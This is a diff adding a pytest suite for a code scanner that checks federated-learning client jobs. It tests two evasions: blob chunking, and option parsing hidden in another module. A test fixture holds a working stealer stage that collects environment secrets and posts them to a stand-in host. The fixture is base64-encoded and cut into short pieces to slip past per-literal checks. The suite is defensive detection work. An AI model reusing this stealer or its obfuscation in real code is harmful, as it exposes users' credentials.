@@ -1,0 +1,180 @@
+"""Red team 39b: code execution, resolution and configs, against an adversary who read the source.
+
+Two holes, each accepted at f20bd7c:
+- an opaque blob cut into literals below the blob checks' length (obfuscation.high-entropy-string and
+  encoded-code read one literal at a time) and joined or decoded at run time, the pieces in another module,
+  appended to a list, or class attributes: now obfuscation.assembled-blob;
+- a config's command line replayed only through the modules whose text spells one of its options: a parser
+  built in another module (`build_parser().parse_args()`, `dest=`), or the parse itself there (`get_args()`),
+  hid where a value the config passes is written. Samples: corpus/*/rt39b_*, corpus/*/near_rt39b_*."""
+
+from __future__ import annotations
+
+import base64
+import json
+from pathlib import Path
+
+import pytest
+
+from analyzer import api
+from analyzer.model import Decision
+
+POLICY = api.load_policy()
+CORPUS = Path(__file__).resolve().parent.parent / "corpus"
+
+# A stealer stage, base64 (316 characters), cut into literals the per-literal checks do not read.
+STAGE = base64.b64encode(b'import os, json, urllib.request\n'
+                         b'keys = {k: v for k, v in os.environ.items() if "KEY" in k or "SECRET" in k}\n'
+                         b'urllib.request.urlopen("https://telemetry.example/u", data=json.dumps(keys).encode())\n'
+                         ).decode()
+PIECES = [STAGE[i:i + 50] for i in range(0, len(STAGE), 50)]
+LOOP = """
+import nvflare.client as flare
+
+flare.init()
+while flare.is_running():
+    model = flare.receive()
+    flare.send(flare.FLModel(params=model.params))
+"""
+
+
+def _rules(report) -> set[str]:
+    return {f.rule for f in report.findings}
+
+
+@pytest.mark.parametrize("assembly", [
+    "ASSET = base64.b64decode(''.join([{pieces}]))",
+    "PARTS = [{pieces}]\nASSET = base64.b64decode(''.join(PARTS))",
+    "PARTS = ({pieces},)\nASSET = base64.b64decode(''.join(map(str, PARTS)))",
+    "PARTS = {{i: p for i, p in enumerate([{pieces}])}}\nASSET = base64.b64decode(''.join(PARTS.values()))",
+    "PARTS = []\nfor p in [{pieces}]:\n    PARTS.append(p)\nASSET = base64.b64decode(''.join(PARTS))",
+    "ASSET = base64.b64decode({plus})",
+    "ASSET = codecs.decode(({plus}).encode(), 'base64')",
+    "ASSET = ''.join([{pieces}])",  # joined only: as opaque as one literal of it
+])
+def test_a_blob_cut_into_short_literals_is_judged_as_one(tmp_path: Path, assembly: str) -> None:
+    code = assembly.format(pieces=", ".join(map(repr, PIECES)), plus=" + ".join(map(repr, PIECES)))
+    script = tmp_path / "client.py"
+    script.write_text("import base64\nimport codecs\n\n" + code + "\n" + LOOP)
+    report = api.scan(script, POLICY)
+    assert report.decision is not Decision.ACCEPT
+    assert "obfuscation.assembled-blob" in _rules(report), [f.rule for f in report.findings]
+
+
+def test_the_pieces_in_another_module_of_the_job(tmp_path: Path) -> None:
+    (tmp_path / "assets.py").write_text("TABLE = [\n" + "".join(f"    {p!r},\n" for p in PIECES) + "]\n")
+    (tmp_path / "client.py").write_text("import base64\n\nimport assets\n\n"
+                                        "CALIBRATION = base64.b64decode(''.join(assets.TABLE))\n" + LOOP)
+    report = api.scan(tmp_path, POLICY)
+    assert "obfuscation.assembled-blob" in _rules(report)
+    assert report.decision is not Decision.ACCEPT
+
+
+@pytest.mark.parametrize("code", [
+    # a help text and a URL joined from parts, tags joined with commas, a short token decoded
+    "HELP = ''.join(['Federated averaging client: receives the global model, trains it for the configured ',"
+    " 'number of local epochs on the site split and sends the weights back with the number of examples.'])",
+    "URL = '/'.join(['https://download.pytorch.org', 'models', 'resnet18-f37072fd.pth'])",
+    "TAGS = ','.join(['cifar10', 'fedavg', 'resnet18', 'lr0p01', 'bs64', 'epochs2', 'seed42', 'site-local'])",
+    "TAG = base64.b64decode('c2l0ZS0x' + 'LWNpZmFyMTA=').decode()",
+    "MODELS = ['resnet18-f37072fd', 'efficientnet_b0_rwightman-7f5810bc', 'vit_b_16-c867db91']\n"
+    "TAG = base64.b64decode('c2l0ZS0xLWNpZmFyMTA=').decode()",
+])
+def test_joined_text_and_small_tokens_stay_accepted(tmp_path: Path, code: str) -> None:
+    script = tmp_path / "client.py"
+    script.write_text("import base64\n\n" + code + "\n" + LOOP)
+    report = api.scan(script, POLICY)
+    assert report.decision is Decision.ACCEPT, [(f.rule, f.message) for f in report.findings]
+
+
+OPTIONS = """\
+import argparse
+
+
+def build_parser():
+    parser = argparse.ArgumentParser()
+    parser.add_argument("--epochs", type=int, default=1)
+    parser.add_argument("--export-dir"{dest}, default="./export")
+    return parser
+
+
+def get_args():
+    return build_parser().parse_args()
+"""
+CLIENT = """\
+import os
+
+import nvflare.client as flare
+import torch
+
+from options import {imported}
+
+
+def main():
+    args = {parse}
+    flare.init()
+    while flare.is_running():
+        model = flare.receive()
+        os.makedirs(args.{read}, exist_ok=True)
+        torch.save(model.params, os.path.join(args.{read}, "global.pt"))
+        flare.send(flare.FLModel(params=model.params))
+
+
+if __name__ == "__main__":
+    main()
+"""
+
+
+def _job(root: Path, app_config: str, dest: str, imported: str, parse: str, read: str) -> Path:
+    app = root / "app"
+    (app / "config").mkdir(parents=True)
+    (app / "custom").mkdir()
+    config = {"format_version": 2, "app_script": "client.py", "app_config": app_config,
+              "executors": [{"tasks": ["train"], "executor": {
+                  "path": "nvflare.app_common.executors.client_api_executor.ClientAPIExecutor",
+                  "args": {"execution_mode": "external_process",
+                           "command": "python3 -u custom/{app_script} {app_config}"}}}],
+              "task_data_filters": [], "task_result_filters": [], "components": []}
+    (app / "config" / "config_fed_client.json").write_text(json.dumps(config, indent=2))
+    (app / "custom" / "options.py").write_text(OPTIONS.format(dest=dest))
+    (app / "custom" / "client.py").write_text(CLIENT.format(imported=imported, parse=parse, read=read))
+    (root / "meta.json").write_text(json.dumps({"name": "j", "deploy_map": {"app": ["@ALL"]}}))
+    return root
+
+
+PARSERS = [  # (dest=, what client.py imports, how it parses, what it reads)
+    ("", "build_parser", "build_parser().parse_args()", "export_dir"),
+    (', dest="snapshots"', "build_parser", "build_parser().parse_args()", "snapshots"),
+    ("", "get_args", "get_args()", "export_dir"),
+    (', dest="snapshots"', "get_args", "get_args()", "snapshots"),
+]
+
+
+@pytest.mark.parametrize("dest, imported, parse, read", PARSERS)
+def test_a_value_the_config_passes_is_seen_where_another_module_builds_the_parser(
+        tmp_path: Path, dest: str, imported: str, parse: str, read: str) -> None:
+    report = api.scan(_job(tmp_path, "--epochs 2 --export-dir /srv/exports/cifar10", dest, imported, parse, read),
+                      POLICY)
+    assert "file-exfiltration.write-outside" in _rules(report), [(f.rule, f.message) for f in report.findings]
+    assert report.decision is not Decision.ACCEPT
+
+
+@pytest.mark.parametrize("dest, imported, parse, read", PARSERS)
+def test_a_value_inside_the_workspace_stays_accepted(
+        tmp_path: Path, dest: str, imported: str, parse: str, read: str) -> None:
+    report = api.scan(_job(tmp_path, "--epochs 2 --export-dir ./export/cifar10", dest, imported, parse, read),
+                      POLICY)
+    assert report.decision is Decision.ACCEPT, [(f.rule, f.message) for f in report.findings]
+
+
+@pytest.mark.parametrize("sample", ["jobs/rt39b_blob_chunks_other_module", "malicious/rt39b_blob_parts_appended.py",
+                                    "malicious/rt39b_blob_class_attrs.py", "jobs/rt39b_argparse_dest_other_module",
+                                    "jobs/rt39b_argparse_parse_other_module", "borderline/lead38_chunked_blob.py"])
+def test_samples_accepted_before_are_not_accepted(sample: str) -> None:
+    assert api.scan(CORPUS / sample, POLICY).decision is not Decision.ACCEPT
+
+
+@pytest.mark.parametrize("sample", ["benign/near_rt39b_joined_text_and_token.py",
+                                    "jobs/near_rt39b_argparse_dest_other_module"])
+def test_the_honest_twins_stay_accepted(sample: str) -> None:
+    assert api.scan(CORPUS / sample, POLICY).decision is Decision.ACCEPT
